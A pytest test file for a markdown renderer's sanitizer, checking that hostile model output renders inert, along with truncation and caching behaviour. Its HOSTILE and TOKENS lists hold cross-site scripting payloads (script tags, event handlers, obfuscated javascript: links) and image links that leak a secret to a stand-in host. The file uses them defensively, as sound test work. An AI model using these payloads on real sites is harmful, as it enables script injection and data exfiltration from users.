"""Markdown rendering: formatting, sanitizing hostile model output, truncation, and the render cache."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2 import Environment
from markdown.extensions.fenced_code import FencedBlockPreprocessor
from markupsafe import Markup

from artifacts_app import rendering
from artifacts_app.rendering import forget_cached, render_cached, render_markdown, truncate_for_render
from artifacts_app.rendering.cache import PAUSE_EXTENSION
from artifacts_app.rendering.sanitize import PYGMENTS_CLASSES

PROPERTY_SETTINGS = settings(max_examples=150, database=None, deadline=None)

# The test's own statement of the policy, kept independent of the module's constants on purpose.
ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "del",
    "code", "pre", "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td",
    "a", "span", "div", "sup", "sub",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel", "class"},
    "ol": {"start"},
    "span": {"class"},
    "div": {"class"},
    "code": {"class"},
    "th": {"class"},
    "td": {"class"},
    "pre": {"class", "tabindex"},  # the fallback's own <pre class="wrap render-fallback">; tabindex="0" (below)
    "p": {"class", "role"},  # only the fallback's notice, <p class="render-notice" role="note">
}
VOID_TAGS = {"br", "hr"}
SAFE_SCHEMES = {"http", "https", "mailto", ""}
REL = {"noopener", "noreferrer", "nofollow"}


class Collector(HTMLParser):
    """Records every tag, attribute and stray markup declaration, and checks nesting."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.stack: list[str] = []
        self.problems: list[str] = []
        self.depth_at: dict[str, int] = {}
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Record a start tag and, unless void, open it."""
        attributes = {name: value or "" for name, value in attrs}
        self.tags.append((tag, attributes))
        if "id" in attributes:
            self.depth_at[attributes["id"]] = len(self.stack)
        if tag not in VOID_TAGS:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """A self-closing tag opens nothing."""
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        """Close the innermost element, which must be this one."""
        if tag in VOID_TAGS:
            return
        if not self.stack or self.stack[-1] != tag:
            self.problems.append(f"</{tag}> while open: {self.stack}")
            return
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        """Keep the text, to check what is shown."""
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        """No comment may survive: an open one would hide the rest of the page."""
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        """Nor a declaration."""
        self.problems.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        """Nor a CDATA section."""
        self.problems.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        """Nor a processing instruction."""
        self.problems.append(f"processing instruction {data!r}")


def parse(html: str) -> Collector:
    """The output followed by a marker paragraph, parsed."""
    collector = Collector()
    collector.feed(str(html) + '<p id="after">after</p>')  # str(): Markup + str would escape
    collector.close()
    return collector


C0_AND_SPACE = "".join(chr(code) for code in range(0x21))


def scheme(url: str) -> str:
    """The scheme a browser sees: it strips C0 controls and spaces around, and tabs/newlines anywhere."""
    return urlsplit(re.sub(r"[\t\n\r]", "", url).strip(C0_AND_SPACE)).scheme.lower()


def assert_inert(html: str) -> Collector:
    """Fail unless html is well-formed and holds nothing a browser would run, load or style."""
    assert isinstance(html, Markup)
    # Every "<" starts an allowed tag; anything else would have been escaped to &lt;.
    for match in re.finditer(r"<(/?)([^\s/>]*)", html):
        assert match.group(2).lower() in ALLOWED_TAGS, f"unexpected markup {html[match.start():match.start() + 40]!r}"
    collector = parse(html)
    assert collector.problems == []
    assert collector.depth_at.get("after") == 0, "the output left an element open"
    assert collector.stack == []
    for tag, attributes in collector.tags:
        if attributes.get("id") == "after":
            continue
        assert tag in ALLOWED_TAGS, tag
        for name, value in attributes.items():
            assert not name.startswith(("on", "hx-", "data-")), (tag, name)
            assert name != "style", tag
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()), (tag, name)
            if name in ("href", "src"):
                assert scheme(value) in SAFE_SCHEMES, (tag, name, value)
            if name == "tabindex":
                assert value == "0", (tag, name, value)  # focusable in order, never a jump ahead
        if tag == "a":
            assert set(attributes.get("rel", "").split()) >= REL, attributes
    return collector


def anchors(collector: Collector) -> list[dict[str, str]]:
    """Attributes of every link."""
    return [attributes for tag, attributes in collector.tags if tag == "a"]


# --- formatting ------------------------------------------------------------------------------


def test_returns_markup_that_jinja_does_not_escape_again() -> None:
    html = render_markdown("**bold** & <i>it</i>")
    assert isinstance(html, Markup)
    rendered = Environment(autoescape=True).from_string("{{ html }}").render(html=html)
    assert "<strong>bold</strong> &amp; <i>it</i>" in rendered


def test_headings_paragraphs_and_inline_markup() -> None:
    html = render_markdown("# One\n\n## Two\n\n### Three\n\nText with `code`, *em* and **strong**.\n\n> quoted\n\n---")
    for fragment in ("<h2>One</h2>", "<h3>Two</h3>", "<h4>Three</h4>", "<code>code</code>",
                     "<em>em</em>", "<strong>strong</strong>", "<blockquote>", "<hr>"):
        assert fragment in html
    assert_inert(html)


def test_headings_start_at_h2_so_the_page_keeps_its_one_h1() -> None:
    markdown = "# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six\n\nSetext\n======\n"
    html = render_markdown(markdown + "\n<h1>Raw one</h1>\n\n<h6 id=x>Raw six</h6>\n")
    collector = assert_inert(html)
    headings = [tag for tag, _ in collector.tags if re.fullmatch(r"h[1-6]", tag)]
    assert headings == ["h2", "h3", "h4", "h5", "h6", "h6", "h2", "h2", "h6"]
    assert "<h2>One</h2>" in html and "<h6>Six</h6>" in html and "<h2>Raw one</h2>" in html


def test_heading_tags_in_text_and_code_are_left_alone() -> None:
    html = render_markdown("Write `<h1>` for a title.\n\n```html\n<h1>Title</h1>\n```\n\n    <h2>indented</h2>\n")
    assert "<h1>" not in html and "<h2>" not in html and "<h3>" not in html
    assert "&lt;h1&gt;" in html and "&lt;h2&gt;indented&lt;/h2&gt;" in html


def test_every_code_block_is_keyboard_focusable_and_only_with_our_tabindex() -> None:
    html = render_markdown("```python\nprint(1)\n```\n\n```\nplain\n```\n\n    indented\n\n"
                           '<pre tabindex="5" onfocus="x()">raw</pre>\n\n<p tabindex="1">para</p>\n')
    collector = assert_inert(html)
    pres = [attributes for tag, attributes in collector.tags if tag == "pre"]
    assert pres == [{"tabindex": "0"}] * 4
    assert [tag for tag, attributes in collector.tags if "tabindex" in attributes] == ["pre"] * 4


def test_tables_keep_alignment_as_classes_not_styles() -> None:
    html = render_markdown("| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |")
    collector = assert_inert(html)
    assert "<table>" in html and "<thead>" in html and "<tbody>" in html
    cells = [attributes.get("class") for tag, attributes in collector.tags if tag in ("th", "td")]
    assert cells == ["align-left", "align-center", "align-right", None] * 2


@pytest.mark.parametrize(
    ("language", "source", "token"),
    [
        ("python", "def answer():\n    return 42\n", ("k", "def")),
        ("sql", "SELECT id FROM runs WHERE cost > 1;\n", ("k", "SELECT")),
        ("bash", "echo \"$HOME\" | grep -c x\n", ("nb", "echo")),
    ],
)
def test_fenced_code_is_highlighted_with_pygments_classes(language: str, source: str, token: tuple[str, str]) -> None:
    html = render_markdown(f"Before.\n\n```{language}\n{source}```\n\nAfter.")
    collector = assert_inert(html)
    assert '<div class="highlight"><pre tabindex="0">' in html
    assert f'<span class="{token[0]}">{token[1]}</span>' in html
    classes = {attributes["class"] for tag, attributes in collector.tags if tag == "span" and "class" in attributes}
    assert len(classes) > 1
    assert classes <= PYGMENTS_CLASSES
    assert "<p>After.</p>" in html


@pytest.mark.parametrize(("opener", "closer"), [("```", "```"), ("```no-such-language", "```"), ("~~~", "~~~")])
def test_fenced_code_without_or_with_unknown_language_is_plain_but_boxed(opener: str, closer: str) -> None:
    html = render_markdown(f"{opener}\n<b>not bold</b>\n{closer}\n")
    assert_inert(html)
    assert '<div class="highlight">' in html
    assert "&lt;b&gt;not bold&lt;/b&gt;" in html


def test_sane_lists_and_ordered_list_start() -> None:
    html = render_markdown("3. three\n4. four\n\n* a\n* b\n\n1. one\n* not merged")
    collector = assert_inert(html)
    assert '<ol start="3">' in html
    assert [tag for tag, _ in collector.tags if tag in ("ol", "ul")] == ["ol", "ul", "ol"]


def test_links_keep_safe_urls_and_get_rel() -> None:
    html = render_markdown("[web](https://example.com/a?b=1&c=2 \"T\") [mail](mailto:a@example.com) "
                           "[rel](/runs/1) [frag](#top) <https://auto.example/>")
    links = anchors(assert_inert(html))
    assert [link["href"] for link in links] == [
        "https://example.com/a?b=1&c=2", "mailto:a@example.com", "/runs/1", "#top", "https://auto.example/",
    ]
    assert links[0]["title"] == "T"
    assert all(link["rel"] == "noopener noreferrer nofollow" for link in links)


def test_harmless_raw_html_is_kept_and_foreign_classes_dropped() -> None:
    html = render_markdown('Some <b>raw</b> <sup>2</sup> <span class="k btn htmx-indicator">x</span>')
    assert_inert(html)
    assert "<b>raw</b>" in html and "<sup>2</sup>" in html
    assert '<span class="k">x</span>' in html


# --- hostile input ---------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=//evil>",
    "<style>body{display:none}</style>",
    "<form action=//evil><input></form>",
    "<button formaction=//evil>x</button><textarea>x</textarea>",
    "<object data=//evil></object><embed src=//evil>",
    "<link rel=stylesheet href=//evil><base href=//evil/>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]( javascript:alert(1) )",
    "[x]: javascript:alert(1)\n\n[ref][x]",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>">x</a>',
    '<a href="x" onclick="alert(1)" target="_top">x</a>',
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div data-hx-post="/x">x</div>',
    '<p style="position:fixed">x</p>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<base href="//evil/">',
    '<meta http-equiv=refresh content="0;url=//evil">',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    '`code` <a href="javascript:alert(1)">`x`</a>',
    "![leak](https://evil.example/p?secret=1)",
    '<img src="https://evil.example/p">',
    "<textarea>",
    "<!--",
    "<title>",
    "<plaintext>",
    "<style>",
    "<xmp>",
    "<noscript>",
    "<iframe>",
    "<template>",
    "<select><option>",
    "<div>",
    "<table><tr><td>",
    '<a href="https://example.com/">',
    "<![CDATA[",
    "<?php",
    "<!DOCTYPE html>",
]


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("context", ["{}", "{}\n\nrest of **page**", "Intro\n\n{}\n\n# Heading", "* item {} tail"])
def test_hostile_input_is_inert_and_well_formed(payload: str, context: str) -> None:
    html = render_markdown(context.format(payload))
    assert_inert(html)


@pytest.mark.parametrize("payload", ["<script>alert(1)</script>", "<style>body{display:none}</style>",
                                     "<svg><script>alert(1)</script></svg>", "<template><b>x</b>alert(1)</template>"])
def test_script_and_style_content_is_dropped_not_shown(payload: str) -> None:
    html = render_markdown(f"before\n\n{payload}\n\nafter")
    assert_inert(html)
    assert "alert" not in html and "display" not in html
    assert "<p>before</p>" in html and "<p>after</p>" in html


@pytest.mark.parametrize("opener", ["<textarea>", "<title>", "<xmp>", "<plaintext>", "<div>", "<noscript>"])
def test_unclosed_elements_do_not_swallow_the_page(opener: str) -> None:
    collector = assert_inert(render_markdown(f"{opener}\n\nrest of the artifact"))
    assert collector.depth_at["after"] == 0
    assert "after" in collector.text


@pytest.mark.parametrize(
    "text",
    ["![leak](https://evil.example/p?secret=1)", "![](//evil.example/p?secret=1)",
     "![leak](/relative.png?secret=1)", '![a "quoted" <alt> & more](https://evil.example/p?secret=1 "T")',
     "![leak][r]\n\n[r]: https://evil.example/p?secret=1"],
)
def test_markdown_images_become_links_and_are_never_loaded(text: str) -> None:
    html = render_markdown(text)
    collector = assert_inert(html)
    assert "<img" not in html
    links = anchors(collector)
    assert len(links) == 1 and links[0]["class"] == "blocked-image"
    url = links[0]["href"]
    assert "secret=1" in url
    # The URL is only the blocked link's href: no other attribute or tag carries it.
    assert sum(url in value for _, attributes in collector.tags for value in attributes.values()) == 1
    label = "".join(collector.text)
    assert "(not loaded)" in label and "Image" in label


def test_image_alt_is_escaped_in_the_link_text() -> None:
    html = render_markdown('![a <b>x</b> & "q"](https://evil.example/p)')
    assert_inert(html)
    assert 'Image: a &lt;b&gt;x&lt;/b&gt; &amp; "q" (not loaded)</a>' in html


def test_image_inside_link_becomes_text_since_links_cannot_nest() -> None:
    html = render_markdown("[![badge](https://evil.example/b.svg)](https://example.com/)")
    collector = assert_inert(html)
    assert [link["href"] for link in anchors(collector)] == ["https://example.com/"]
    assert '<span class="blocked-image">Image: badge (not loaded)</span>' in html
    assert "evil.example" not in html


def test_raw_html_images_are_removed() -> None:
    html = render_markdown('<img src="https://evil.example/p"> and <img src=x onerror=alert(1)>')
    assert_inert(html)
    assert "evil.example" not in html and "onerror" not in html


def test_dangerous_image_sources_lose_their_href() -> None:
    html = render_markdown("![x](javascript:alert(1)) ![y](data:image/png;base64,AAAA)")
    links = anchors(assert_inert(html))
    assert [link.get("href") for link in links] == [None, None]


TOKENS = [
    "<", ">", "</", "/>", "&", "&#", "x", ";", "\"", "'", "=", " ", "\n", "\n\n", "`", "```", "~~~", "*", "_", "[",
    "]", "(", ")", "!", "#", "|", "-", ":", "<script>", "</script>", "<style>", "<img src=x onerror=alert(1)>",
    "<a href=", "javascript:", "data:", "https://evil.example/", "<svg", "<math", "<textarea>", "<!--", "-->",
    "<div", "<p", "<table>", "<td>", "onload=", " style=", " hx-get=", "<![CDATA[", "]]>", "\\", "    ", "> ",
    "1. ", "* ", "&lt;", "&#x09;", "\t", "\x00",
]  # fmt: skip


@PROPERTY_SETTINGS
@given(st.lists(st.sampled_from(TOKENS) | st.text(max_size=3), max_size=40).map("".join))
def test_any_mix_of_markdown_and_html_tokens_renders_inert(text: str) -> None:
    assert_inert(render_markdown(text))


# --- robustness ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["[" * 20000, "[](" * 7000, '[a](b "x) ' * 3000, "![" * 10000,
                                  "[" * 10000 + "]" * 10000, "[" * 20000 + "<script>alert(1)</script>"])
def test_quadratic_link_parsing_falls_back_to_plain_text_quickly(text: str) -> None:
    started = time.perf_counter()
    html = render_markdown(text)
    elapsed = time.perf_counter() - started
    assert '<pre class="wrap render-fallback">' in html
    assert_inert(html)
    assert elapsed < 20, elapsed  # unbounded, these take minutes to hours; budgeted, about a second


def test_normal_documents_stay_within_the_link_budget() -> None:
    links = " ".join(f'see [source {i}](https://example.com/{i} "Title {i}")' for i in range(1000))
    json_dump = "[" + ", ".join(f'[{i}, [0.5, "x"], {{"k": [1, 2]}}]' for i in range(2000)) + "]"
    for text in (links, json_dump, "\n".join(f"- [ ] task [{i}]" for i in range(3000))):
        assert "render-fallback" not in render_markdown(text)


def test_a_parser_crash_falls_back_to_escaped_text(monkeypatch: pytest.MonkeyPatch) -> None:
    def explode(self: Any, text: str) -> str:
        raise RecursionError("too deep")

    # The in-process renderer, as the helper process runs it (a patch does not reach the helper).
    monkeypatch.setattr(rendering._Renderer, "convert", explode)
    html = rendering.render_in_process("<script>alert(1)</script> **x**")
    assert html == (
        f'<p class="render-notice" role="note">{rendering.FAILED_NOTICE}</p>'
        '<pre class="wrap render-fallback">&lt;script&gt;alert(1)&lt;/script&gt; **x**</pre>'
    )


def test_rendering_is_thread_safe(tmp_path: Path) -> None:
    texts = [f"# Doc {i}\n\n```python\nx = {i}\n```\n\n| a |\n|---|\n| {i} |\n\n![i](https://e/{i})" for i in range(40)]
    # Thread safety, not the time budget (test_render_budget's subject): eight new helpers starting
    # at once on a loaded machine could pass the 1 s default and fall back to plain text.
    app = Flask(__name__, instance_path=str(tmp_path))
    app.config["RENDER_TIME_BUDGET_MS"] = 30_000

    def render(text: str) -> Markup:
        with app.app_context():
            return render_markdown(text)

    expected = [render(text) for text in texts]
    assert not [html for html in expected if "render-notice" in html]
    with ThreadPoolExecutor(max_workers=8) as pool:
        assert list(pool.map(render, texts * 3)) == expected * 3


# --- truncation ------------------------------------------------------------------------------


def test_truncate_under_or_at_the_limit_is_unchanged() -> None:
    assert truncate_for_render("short", 100) == ("short", 0)
    assert truncate_for_render("exact", 5) == ("exact", 0)
    assert truncate_for_render("", 0) == ("", 0)


def test_truncate_ascii_without_line_break_cuts_at_the_limit() -> None:
    assert truncate_for_render("a" * 100, 10) == ("a" * 10, 90)
    assert truncate_for_render("abc", 0) == ("", 3)


def test_truncate_prefers_the_last_line_break_within_the_window() -> None:
    text = "first line\nsecond line that goes on"
    assert truncate_for_render(text, 20) == ("first line\n", len(text) - 11)


def test_truncate_ignores_a_line_break_far_before_the_limit() -> None:
    text = "intro\n" + "x" * 5000
    part, hidden = truncate_for_render(text, 4000)
    assert part == text[:4000] and hidden == len(text) - 4000


@pytest.mark.parametrize("character", ["é", "漢", "😀", "👩‍💻"])
def test_truncate_never_splits_a_multibyte_character(character: str) -> None:
    text = "ab" + character * 50
    for limit in range(len(text.encode())):
        part, hidden = truncate_for_render(text, limit)
        assert len(part.encode()) <= limit
        assert text.startswith(part)
        assert hidden == len(text.encode()) - len(part.encode())
        assert len(part.encode()) > limit - 4  # backed up by at most one character


@PROPERTY_SETTINGS
@given(st.text(alphabet=st.sampled_from(list("ab \n`~é漢😀")), max_size=300), st.integers(0, 400))
def test_truncate_properties(text: str, limit: int) -> None:
    part, hidden = truncate_for_render(text, limit)
    size = len(text.encode())
    if size <= limit:
        assert (part, hidden) == (text, 0)
        return
    shown = text.encode()[: size - hidden].decode()
    assert part.startswith(shown)
    assert len(shown.encode()) <= limit
    assert part[len(shown):] in ("", "\n```\n", "```\n", "\n~~~\n", "~~~\n") or re.fullmatch(
        r"\n?(`{3,}|~{3,})\n", part[len(shown):]
    )


FENCE_LINES = ["```", "```python", "``` sql", "```{.py}", "```a b", "````", "~~~", "~~~~", "~~~ ", "  ```", "x", ""]


def block_reaching_the_end(text: str) -> int | None:
    """Where python-markdown's fence regex (applied as its preprocessor does) starts a block that ends text."""
    position = 0
    while match := FencedBlockPreprocessor.FENCED_BLOCK_RE.search(text, position):
        if match.end() >= len(text.rstrip("\n")):
            return match.start()
        position = match.end()
    return None


@PROPERTY_SETTINGS
@given(st.lists(st.sampled_from(FENCE_LINES), max_size=12).map("\n".join))
def test_unclosed_fence_matches_python_markdown(text: str) -> None:
    # The oracle: append each candidate closing fence and let python-markdown's own regex say
    # which one would pair with an opener; the right one pairs with the earliest opener.
    starts = {}
    for fence in {"```", "````", "~~~", "~~~~"}:
        start = block_reaching_the_end(text + "\n" + fence + "\n")
        if start is not None and start <= len(text):
            starts[fence] = start
    expected = min(starts, key=starts.__getitem__) if starts else None
    assert rendering._unclosed_fence(text) == expected


def test_truncate_inside_a_fence_closes_it_so_the_rest_renders() -> None:
    text = "Intro\n\n```python\n" + "x = 1\n" * 100 + "```\n\nAfter the code."
    part, hidden = truncate_for_render(text, 60)
    assert part.endswith("```\n")
    shown = part[: -len("```\n")]
    assert text.startswith(shown) and hidden == len(text.encode()) - len(shown.encode())
    html = render_markdown(part + "\n\nNext section")
    assert '<div class="highlight">' in html and "```" not in html
    assert "<p>Next section</p>" in html


@pytest.mark.parametrize("fence", ["~~~", "````", "```"])
def test_truncate_closes_with_the_same_fence(fence: str) -> None:
    text = f"{fence}sql\n" + "SELECT 1;\n" * 50 + f"{fence}\n"
    part, _ = truncate_for_render(text, 100)
    assert part.endswith(f"\n{fence}\n")
    assert "<div class=\"highlight\">" in render_markdown(part)


def test_truncate_mid_line_in_a_fence_adds_the_line_break_first() -> None:
    text = "```\n" + "y" * 3000 + "\n```\n"  # the opening line break is too far back to be preferred
    part, hidden = truncate_for_render(text, 2500)
    assert part == "```\n" + "y" * 2496 + "\n```\n" and hidden == 504 + 5


def test_truncate_closes_a_fence_open_in_the_shown_part_even_if_never_closed() -> None:
    # The text given may itself be a prefix of the stored output, so "never closed" is unknowable.
    text = "Intro\n\n```\n" + "code line\n" * 100
    part, _ = truncate_for_render(text, 200)
    assert part.endswith("\n```\n")


def test_truncate_handles_crlf_fences() -> None:
    text = "```python\r\n" + "x = 1\r\n" * 50 + "```\r\nafter"
    part, _ = truncate_for_render(text, 60)
    assert part.endswith("\r\n```\n")
    assert '<div class="highlight">' in render_markdown(part) and "```" not in render_markdown(part)


def test_truncate_is_linear_on_many_unclosed_fences() -> None:
    text = "```x\n~~~~\n" * 6500 + "tail" * 100  # python-markdown's own fence search is quadratic here
    started = time.perf_counter()
    part, hidden = truncate_for_render(text, 65000)
    assert time.perf_counter() - started < 2
    shown = text.encode()[: len(text.encode()) - hidden].decode()
    assert hidden > 0 and part.startswith(shown)


def test_truncate_after_a_closed_fence_adds_nothing() -> None:
    text = "```\ncode\n```\n\n" + "prose " * 100
    part, _ = truncate_for_render(text, 40)
    assert "```" not in part[12:]


# --- render cache ----------------------------------------------------------------------------


def make_cache_app(instance_path: Path, **config: Any) -> Flask:
    """A bare app with only the render cache bound."""
    app = Flask(__name__, instance_path=str(instance_path))
    app.config.update(config)
    rendering.init_app(app)
    return app


@pytest.fixture
def renders(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Texts actually rendered (render_markdown is counted, not replaced)."""
    calls: list[str] = []
    real = rendering.render_markdown

    def counting(text: str) -> Markup:
        calls.append(text)
        return real(text)

    monkeypatch.setattr(rendering, "render_markdown", counting)
    return calls


@pytest.fixture
def cache_app(tmp_path: Path) -> Iterator[Flask]:
    """A cache-only app inside its app context."""
    app = make_cache_app(tmp_path / "instance")
    with app.app_context():
        yield app


def test_same_key_renders_once(cache_app: Flask, renders: list[str]) -> None:
    first = render_cached("run-1:step-0", "# Title\n\n**x**")
    second = render_cached("run-1:step-0", "# Title\n\n**x**")
    assert renders == ["# Title\n\n**x**"]
    assert isinstance(second, Markup) and second == first == render_markdown("# Title\n\n**x**")


def test_other_key_text_or_renderer_version_renders_again(
    cache_app: Flask, renders: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    render_cached("a", "text")
    render_cached("b", "text")
    render_cached("a", "changed text")
    monkeypatch.setattr(rendering, "RENDERER_VERSION", "test-next")
    render_cached("a", "text")
    assert len(renders) == 4
    render_cached("a", "text")
    assert len(renders) == 4


def test_a_render_cached_by_an_older_renderer_is_not_served(cache_app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    # Version 3 kept the model's h1 and left <pre> unfocusable; those entries must stop matching.
    monkeypatch.setattr(rendering, "RENDERER_VERSION", "3")
    rendering.cache.set(rendering.cache_key_for("run-1:final", "# Title"), "<h1>Title</h1>")
    assert render_cached("run-1:final", "# Title") == Markup("<h1>Title</h1>")
    monkeypatch.undo()
    assert render_cached("run-1:final", "# Title") == Markup("<h2>Title</h2>")


def test_cache_lives_in_the_instance_folder_and_survives_a_restart(tmp_path: Path, renders: list[str]) -> None:
    instance = tmp_path / "instance"
    with make_cache_app(instance).app_context():
        html = render_cached("run-9", "*persisted*")
    files = [path for path in (instance / "render-cache").iterdir() if not path.name.startswith("__")]
    assert files, "no cache file written"
    assert len(renders) == 1
    with make_cache_app(instance).app_context():  # a new app and backend: a restarted worker
        assert render_cached("run-9", "*persisted*") == html
    assert len(renders) == 1


def test_a_broken_cache_still_renders(cache_app: Flask, renders: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*args: Any, **kwargs: Any) -> Any:
        raise OSError("disk gone")

    monkeypatch.setattr(rendering.cache, "get", broken)
    monkeypatch.setattr(rendering.cache, "set", broken)
    assert render_cached("k", "**still**") == Markup("<p><strong>still</strong></p>")
    assert render_cached("k", "**still**") == Markup("<p><strong>still</strong></p>")
    assert len(renders) == 2


def test_a_corrupt_cache_entry_is_a_miss(cache_app: Flask, renders: list[str]) -> None:
    rendering.cache.set(rendering.cache_key_for("k", "text"), b"not a str")
    assert render_cached("k", "text") == Markup("<p>text</p>")
    assert len(renders) == 1


def test_without_an_app_or_init_it_still_renders(tmp_path: Path, renders: list[str]) -> None:
    assert render_cached("k", "plain") == Markup("<p>plain</p>")  # no app context at all
    with Flask(__name__, instance_path=str(tmp_path)).app_context():  # init_app never called
        assert render_cached("k", "plain") == Markup("<p>plain</p>")
    assert len(renders) == 2


def test_cache_configuration(tmp_path: Path) -> None:
    app = Flask(__name__, instance_path=str(tmp_path))
    config = rendering.cache_config(app)
    assert config["CACHE_TYPE"] == "FileSystemCache"
    assert config["CACHE_DIR"] == str(tmp_path / "render-cache")
    assert config["CACHE_THRESHOLD"] >= 1000
    assert config["CACHE_DEFAULT_TIMEOUT"] >= 24 * 3600
    app.config["CACHE_REDIS_URL"] = "redis://cache.internal:6379/2"
    config = rendering.cache_config(app)
    assert config["CACHE_TYPE"] == "RedisCache"
    assert config["CACHE_REDIS_URL"] == "redis://cache.internal:6379/2"
    assert "CACHE_DIR" not in config


def test_a_render_is_shared_with_other_threads(cache_app: Flask, renders: list[str]) -> None:
    first = render_cached("shared", "# same")  # one worker thread renders and stores it

    def view(_: int) -> Markup:
        with cache_app.app_context():
            return render_cached("shared", "# same")

    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(view, range(4)))
    assert results == [first] * 4
    assert renders == ["# same"]  # the other threads read it from the cache


def test_concurrent_first_views_each_render_and_agree(
    cache_app: Flask, renders: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Nothing makes concurrent misses wait for one render: four views that all miss (held together
    # until each has missed and started rendering) render four times, store the same HTML, and the
    # next view is served from the cache.
    inside = threading.Barrier(4, timeout=10)
    counting = rendering.render_markdown

    def render_together(text: str) -> Markup:
        inside.wait()
        return counting(text)

    monkeypatch.setattr(rendering, "render_markdown", render_together)

    def view(_: int) -> Markup:
        with cache_app.app_context():
            return render_cached("shared", "# same")

    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(view, range(4)))
    assert len(set(results)) == 1
    assert renders == ["# same"] * 4
    monkeypatch.setattr(rendering, "render_markdown", counting)
    assert render_cached("shared", "# same") == results[0]
    assert renders == ["# same"] * 4


def test_forgetting_a_deleted_runs_renders_is_tried_even_while_the_cache_is_paused(
    cache_app: Flask, renders: list[str]
) -> None:
    # A pause after one failure skips reads and writes, but a deletion promises nothing of the run is
    # left: its renders are dropped from a cache that answers again, paused or not.
    render_cached("run-9:final", "# Gone soon")
    cache_app.extensions[PAUSE_EXTENSION].start()
    forget_cached([("run-9:final", "# Gone soon")])
    cache_app.extensions[PAUSE_EXTENSION].until = 0.0  # the pause over: the cache is read again
    render_cached("run-9:final", "# Gone soon")
    assert renders == ["# Gone soon", "# Gone soon"]  # rendered again: the entry had been dropped
